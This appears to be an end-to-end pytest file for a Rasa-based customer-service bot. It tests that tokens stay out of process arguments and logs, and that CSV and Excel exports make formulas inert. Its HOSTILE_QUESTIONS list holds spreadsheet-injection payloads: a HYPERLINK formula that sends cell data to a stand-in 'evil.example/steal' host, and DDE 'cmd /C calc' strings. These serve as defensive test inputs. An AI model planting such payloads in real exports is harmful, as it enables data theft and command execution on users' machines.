"""Secrets stay secret: not in process arguments, not in logs; exports cannot carry formulas.

Findings: the Rasa token was on Rasa's command line (`--auth-token`, visible to every local
user in `ps`) and in logged URLs (`?token=`); python-telegram-bot's httpx logged every Bot
API URL, bot token included, at INFO; the spreadsheet export wrote customer-supplied text
such as `=HYPERLINK(...)` into cells that Excel runs as formulas.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import time
import uuid
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from bot.core.processes import ServiceGroup
from bot.core.settings import PROJECT_ROOT, Settings
from fakes.telegram_api import FakeTelegramAPI
from fakes.telegram_user import telegram_update
from fakes.wechat_api import FakeWeChatAPI
from fakes.wechat_user import WeChatUser
from tests.e2e.conftest import (
    TELEGRAM_SECRET,
    TELEGRAM_TOKEN,
    TOKEN,
    WECHAT_AES_KEY,
    WECHAT_APP_ID,
    WECHAT_APP_SECRET,
    WECHAT_TOKEN,
)

pytestmark = pytest.mark.e2e

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def group_processes(leader: int) -> list[int]:
    """Ids of the processes in the process group `leader` started (its children included)."""
    pids = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        fields = stat.rsplit(")", 1)[1].split()
        if int(fields[2]) == leader:  # pgrp
            pids.append(int(entry.name))
    return pids


def secrets_of(stack: Settings) -> dict[str, str]:
    return {
        "Rasa token": TOKEN,
        "Telegram bot token": TELEGRAM_TOKEN,
        "Telegram bot token (secret part)": TELEGRAM_TOKEN.split(":", 1)[1],
        "Telegram webhook secret": TELEGRAM_SECRET,
        "WeChat server token": WECHAT_TOKEN,
        "WeChat app secret": WECHAT_APP_SECRET,
        "WeChat access token": "FAKE_TOKEN_",  # the fake's tokens (in its API URLs)
        "WeChat AES key": WECHAT_AES_KEY,
        "action token": stack.action_token,
        "customer session secret": stack.customer_session_secret,
    }


def leaks_in_logs(stack: Settings, secrets: dict[str, str]) -> list[str]:
    found = []
    for log in sorted((stack.var_dir / "logs").rglob("*")):
        if not log.is_file():
            continue
        text = log.read_text("utf-8", "replace")
        for name, secret in secrets.items():
            if secret and secret in text:
                line = next(line for line in text.splitlines() if secret in line)
                found.append(f"{name} in {log.name}: {line[:200]}")
    return found


def test_rasa_token_is_not_in_the_rasa_process_arguments(stack_group: ServiceGroup) -> None:
    rasa = next(service for service in stack_group.services if service.name == "rasa")
    assert rasa.process is not None
    pids = group_processes(rasa.process.pid)
    assert rasa.process.pid in pids
    for pid in pids:
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        words = [word.decode("utf-8", "replace") for word in argv]
        assert not [word for word in words if TOKEN in word], (pid, words)
    # `ps` shows the same
    shown = subprocess.run(
        ["ps", "-o", "args=", "--sid", str(rasa.process.pid)],
        capture_output=True,
        text=True,
        check=False,
    ).stdout
    assert TOKEN not in shown, shown


def test_telegram_exchange_leaves_no_bot_token_in_rasa_log(
    stack: Settings, telegram_api: FakeTelegramAPI
) -> None:
    chat_id = int(time.time() * 1000) % 10**9
    update = telegram_update(int(time.time() * 1000), chat_id, text="你好")
    response = httpx.post(
        f"{stack.rasa_url}/webhooks/telegram/webhook",
        json=update,
        headers={"X-Telegram-Bot-Api-Secret-Token": TELEGRAM_SECRET},
        timeout=30,
    )
    assert response.status_code == 200, response.text
    telegram_api.wait_for(
        lambda call: call[0] == "sendMessage" and str(call[1].get("chat_id")) == str(chat_id),
        timeout=30,
    )
    time.sleep(1)  # let the log lines of the send reach the file
    rasa_log = (stack.var_dir / "logs" / "rasa.log").read_text("utf-8", "replace")
    assert rasa_log, "rasa.log is empty"
    for secret in (TELEGRAM_TOKEN, TELEGRAM_TOKEN.split(":", 1)[1]):
        lines = [line[:200] for line in rasa_log.splitlines() if secret in line]
        assert not lines, lines


def test_no_secret_in_any_log(stack: Settings, wechat_api: FakeWeChatAPI) -> None:
    # a WeChat customer, then an agent's message pushed through WeChat's API (which fetches an
    # access token with the app secret) by Rasa's API called as Kefu's own clients call it
    user = WeChatUser(WECHAT_TOKEN, WECHAT_APP_ID, WECHAT_AES_KEY, f"o{uuid.uuid4().hex[:27]}")
    query, body = user.signed_query(user.text_xml("你好", int(time.time() * 1000)))
    response = httpx.post(
        f"{stack.rasa_url}/webhooks/wechat/webhook", params=query, content=body, timeout=30
    )
    assert response.status_code == 200, response.text
    text = f"您的退款已到账 {uuid.uuid4().hex[:6]}"
    pushed = httpx.post(
        f"{stack.rasa_url}/conversations/wechat:{user.openid}/tracker/events",
        params={"output_channel": "latest", "execute_side_effects": "true", "token": TOKEN},
        json=[{"event": "bot", "text": text}],
        timeout=30,
    )
    assert pushed.status_code == 200, pushed.text
    wechat_api.wait_for(lambda message: text in str(message), timeout=30)
    time.sleep(1)  # let the last log lines reach the files
    assert leaks_in_logs(stack, secrets_of(stack)) == []


# ---------------------------------------------------------------- spreadsheet export
HOSTILE_QUESTIONS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"点我领券")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


def _yaml_single_quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def kefu(args: list[str], data: Path, stack: Settings) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, **stack.as_environment(), "KEFU_DATA_DIR": str(data)}
    environment["KEFU_KB_SOURCE_DIR"] = str(data / "knowledge")
    return subprocess.run(
        [str(stack.app_python.parent / "kefu"), *args],
        capture_output=True,
        text=True,
        cwd=PROJECT_ROOT,
        env=environment,
        timeout=120,
        check=False,
    )


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_csv_export_neutralises_formulas(stack: Settings, tmp_path: Path) -> None:
    data = Path(shutil.copytree(stack.data_dir, tmp_path / "data"))
    topic = data / "knowledge" / "invoices.yml"
    anchor = "    alt_questions:\n      - 买东西有发票吗\n"
    text = topic.read_text("utf-8")
    assert anchor in text
    hostile = "".join(f"      - {_yaml_single_quoted(q)}\n" for q in HOSTILE_QUESTIONS)
    topic.write_text(text.replace(anchor, anchor + hostile, 1), "utf-8")
    before = snapshot(data)

    out = tmp_path / "knowledge.csv"
    done = kefu(["sheet", "export", str(out), "--what", "knowledge"], data, stack)
    assert done.returncode == 0, done.stdout + done.stderr
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    dangerous = [cell[:80] for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == [], dangerous
    for question in HOSTILE_QUESTIONS:
        assert any(question in cell for cell in cells), question  # kept, made inert

    workbook = tmp_path / "kefu.xlsx"
    done = kefu(["sheet", "export", str(workbook)], data, stack)
    assert done.returncode == 0, done.stdout + done.stderr
    formulas = [
        f"{sheet.title}!{cell.coordinate}: {str(cell.value)[:60]}"
        for sheet in load_workbook(workbook).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or str(cell.value or "").startswith("=")
    ]
    assert formulas == [], formulas

    # the round trip stays lossless: importing the export changes no data file
    for source in (out, workbook):
        done = kefu(["sheet", "import", str(source)], data, stack)
        assert done.returncode == 0, done.stdout + done.stderr
        assert snapshot(data) == before, f"importing {source.name} changed the data"
